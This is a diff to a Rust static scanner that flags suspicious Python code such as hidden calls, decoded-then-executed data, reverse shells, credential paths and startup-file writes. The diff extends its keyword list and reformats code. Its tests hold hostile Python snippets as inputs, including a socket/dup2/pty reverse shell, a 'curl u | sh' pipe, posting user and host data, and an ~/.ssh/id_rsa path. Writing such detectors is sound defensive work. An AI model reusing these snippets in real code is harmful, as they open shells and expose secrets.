@@ -19,11 +19,49 @@ use crate::{
 };
 
 /// Words of which one stands in every file that is looked at closely.
-const WORDS: [&str; 32] = [
-    "exec", "eval", "system", "popen", "subprocess", "socket", "urlopen", "urlretrieve", "requests",
-    "httpx", "aiohttp", "environ", "getenv", "b64decode", "unhexlify", "fromhex", "decompress",
-    "marshal", "__import__", "import_module", "getattr", "__dict__", "clipboard", "screenshot",
-    "pyperclip", "ImageGrab", "pynput", "pty.", "/.", "://", "\\\\", "sys.modules",
+const WORDS: [&str; 41] = [
+    "exec",
+    "eval",
+    "system",
+    "popen",
+    "subprocess",
+    "socket",
+    "urlopen",
+    "urlretrieve",
+    "requests",
+    "httpx",
+    "aiohttp",
+    "environ",
+    "getenv",
+    "b64decode",
+    "unhexlify",
+    "fromhex",
+    "decompress",
+    "marshal",
+    "__import__",
+    "import_module",
+    "getattr",
+    "__dict__",
+    "clipboard",
+    "screenshot",
+    "pyperclip",
+    "ImageGrab",
+    "pynput",
+    "pty.",
+    "/.",
+    "://",
+    "\\\\",
+    "sys.modules",
+    "base64",
+    // What begins with `import` and `http` in base64.
+    "aW1wb3",
+    "aHR0c",
+    "globals(",
+    "locals(",
+    ".aws",
+    ".ssh",
+    ".exe",
+    "token",
 ];
 
 /// How many lines away something stands beside a call outside of all functions.
@@ -74,7 +112,14 @@ fn is_any(deed: &Deed, functions: &[&str]) -> bool {
 
 impl Teller<'_> {
     /// Tells something of a line once.
-    fn tell(&mut self, rule: &'static str, line: u32, within: &str, snippet: &str, message: String) {
+    fn tell(
+        &mut self,
+        rule: &'static str,
+        line: u32,
+        within: &str,
+        snippet: &str,
+        message: String,
+    ) {
         if self.seen.len() >= MOST_TOLD || !self.known.insert((rule, line)) {
             return;
         }
@@ -94,9 +139,17 @@ impl Teller<'_> {
         let runs_program = is_any(deed, &vocabulary::RUNS_PROGRAM);
         let sends = is_any(deed, &vocabulary::SENDS);
         if deed.way != Way::Plain && (runs_code || runs_program) {
-            self.tell_deed("hidden-call", deed, "is called by a way that hides its name");
+            self.tell_deed(
+                "hidden-call",
+                deed,
+                "is called by a way that hides its name",
+            );
         } else if deed.way == Way::Pieces && is_any(deed, &vocabulary::NAMED_SO) {
-            self.tell_deed("hidden-call", deed, "is called, and its name is put together");
+            self.tell_deed(
+                "hidden-call",
+                deed,
+                "is called, and its name is put together",
+            );
         }
         self.of_data(deed, runs_code, runs_program);
         if sends {
@@ -112,7 +165,11 @@ impl Teller<'_> {
             }
         }
         if is_any(deed, &vocabulary::WATCHES) {
-            self.tell_deed("watched-person", deed, "reads what somebody copies, types or sees");
+            self.tell_deed(
+                "watched-person",
+                deed,
+                "reads what somebody copies, types or sees",
+            );
         }
         if let Some(name) = commands::program_of_windows(deed) {
             let why = format!("fetches or writes a program, `{}`", cut(name, 80));
@@ -130,7 +187,8 @@ impl Teller<'_> {
     /// Data that becomes code, at once or by way of a file.
     fn of_data(&mut self, deed: &Deed, runs_code: bool, runs_program: bool) {
         let comes = deed.reaches | deed.direct;
-        if (runs_code && comes & (DECODED | FETCHED) != 0) || (runs_program && comes & DECODED != 0) {
+        if (runs_code && comes & (DECODED | FETCHED) != 0) || (runs_program && comes & DECODED != 0)
+        {
             let why = "runs what was decoded or fetched before";
             self.tell_deed("run-of-hidden-data", deed, why);
             return;
@@ -139,14 +197,22 @@ impl Teller<'_> {
             return;
         }
         let writes = |it: &&Deed| is_any(it, &vocabulary::WRITES) && it.reaches & DECODED != 0;
-        if self.reach.deeds.iter().filter(|it| is_near(deed, it)).any(|it| writes(&it)) {
+        if self
+            .reach
+            .deeds
+            .iter()
+            .filter(|it| is_near(deed, it))
+            .any(|it| writes(&it))
+        {
             let why = "runs something beside a file that is written of decoded data";
             self.tell_deed("run-of-hidden-data", deed, why);
         }
     }
 
     fn of_sending(&mut self, deed: &Deed) {
-        let kinds = [HOST, USER, MACHINE].iter().filter(|it| deed.reaches & **it != 0);
+        let kinds = [HOST, USER, MACHINE]
+            .iter()
+            .filter(|it| deed.reaches & **it != 0);
         if kinds.count() > 1 {
             let why = "is given what tells a machine and who works on it";
             self.tell_deed("sent-host", deed, why);
@@ -166,8 +232,8 @@ impl Teller<'_> {
         if deed.function == "pty.spawn" {
             return shell();
         }
-        let starts = deed.function == "os.dup2"
-            || (is_any(deed, &vocabulary::RUNS_PROGRAM) && shell());
+        let starts =
+            deed.function == "os.dup2" || (is_any(deed, &vocabulary::RUNS_PROGRAM) && shell());
         let mut near = self.reach.deeds.iter().filter(|it| is_near(deed, it));
         let connects = near.any(|it| is_any(it, &vocabulary::CONNECTS));
         let duplicates = self.reach.deeds.iter().filter(|it| is_near(deed, it));
@@ -203,9 +269,16 @@ impl Teller<'_> {
                 self.tell(rule, text.line, &text.within, &snippet, what.message());
             }
             if marks::is_of_start(&text.text) && self.writes_near(text.line, &text.within) {
-                let message = "this is read at every start, and something is written to it or beside it";
+                let message =
+                    "this is read at every start, and something is written to it or beside it";
                 let snippet = cut(&text.text, 200).to_owned();
-                self.tell("written-start", text.line, &text.within, &snippet, message.to_owned());
+                self.tell(
+                    "written-start",
+                    text.line,
+                    &text.within,
+                    &snippet,
+                    message.to_owned(),
+                );
             }
         }
     }
@@ -222,8 +295,7 @@ impl Teller<'_> {
 
 /// Whether two deeds stand in one function, or close together outside of all.
 fn is_near(one: &Deed, other: &Deed) -> bool {
-    one.within == other.within
-        && (!one.within.is_empty() || one.line.abs_diff(other.line) <= NEAR)
+    one.within == other.within && (!one.within.is_empty() || one.line.abs_diff(other.line) <= NEAR)
 }
 
 #[cfg(test)]
@@ -247,8 +319,14 @@ mod tests {
     #[test]
     fn what_is_told() {
         let told = [
-            ("import os\ngetattr(os, 'sys' + 'tem')('ls')\n", "hidden-call@2"),
-            ("import base64\nx = base64.b64decode(y)\nexec(x)\n", "run-of-hidden-data@3"),
+            (
+                "import os\ngetattr(os, 'sys' + 'tem')('ls')\n",
+                "hidden-call@2",
+            ),
+            (
+                "import base64\nx = base64.b64decode(y)\nexec(x)\n",
+                "run-of-hidden-data@3",
+            ),
             (
                 "import os, pty, socket\ndef f(a):\n    s = socket.socket()\n    s.connect(a)\n    for n in (0, 1):\n        os.dup2(s.fileno(), 0)\n        os.dup2(s.fileno(), 1)\n    pty.spawn('/bin/sh')\n",
                 "reverse-shell@6 reverse-shell@7 reverse-shell@8",
@@ -257,10 +335,22 @@ mod tests {
                 "import getpass, requests, socket\nd = {'a': getpass.getuser(), 'b': socket.gethostname()}\nrequests.post(u, json=d)\n",
                 "sent-host@3",
             ),
-            ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "written-start@2"),
-            ("import os\np = os.path.join('~/.ssh', 'id_rsa')\n", "named-keys@2"),
-            ("import subprocess\nsubprocess.run(['bash', '-c', 'curl u | sh'])\n", "foreign-command@2"),
-            ("x = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbHMnKQ=='\ny = exec\n", "hidden-code@1"),
+            (
+                "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n",
+                "written-start@2",
+            ),
+            (
+                "import os\np = os.path.join('~/.ssh', 'id_rsa')\n",
+                "named-keys@2",
+            ),
+            (
+                "import subprocess\nsubprocess.run(['bash', '-c', 'curl u | sh'])\n",
+                "foreign-command@2",
+            ),
+            (
+                "x = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnbHMnKQ=='\ny = exec\n",
+                "hidden-code@1",
+            ),
         ];
         for (text, expect) in told {
             assert_eq!(check(text), expect, "{text}");
